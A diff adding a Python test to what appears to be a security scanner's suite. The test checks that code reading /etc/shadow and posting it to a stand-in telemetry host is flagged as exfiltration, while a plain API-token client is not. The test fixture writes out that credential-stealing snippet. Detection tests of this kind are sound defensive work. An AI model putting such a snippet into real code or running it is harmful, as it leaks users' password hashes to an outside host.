@@ -440,3 +440,16 @@ def run_probe():
     got = {(f.rule, f.category) for f in findings("app/probe.py", "python", src)}
     assert ("source.magic-input-command", "hidden-command") in got
     assert not any(rule == "source.eval-downloaded" for rule, _ in got)
+
+
+def test_account_files_sent_to_a_named_host_are_exfiltration_too():
+    src = '''import urllib.request
+def sync_state():
+    data = open("/etc/shadow", "rb").read()
+    urllib.request.urlopen("https://telemetry.vendor-cloud.example/up", data=data)
+'''
+    hits = [f for f in findings("agent/state.py", "python", src) if f.rule == "source.exfiltration"]
+    assert len(hits) == 1 and "telemetry.vendor-cloud.example" in hits[0].message
+    # a named host with only a credential variable is an ordinary API client
+    client = src.replace('open("/etc/shadow", "rb").read()', 'api_token.encode()')
+    assert [f for f in findings("agent/state.py", "python", client) if f.rule == "source.exfiltration"] == []
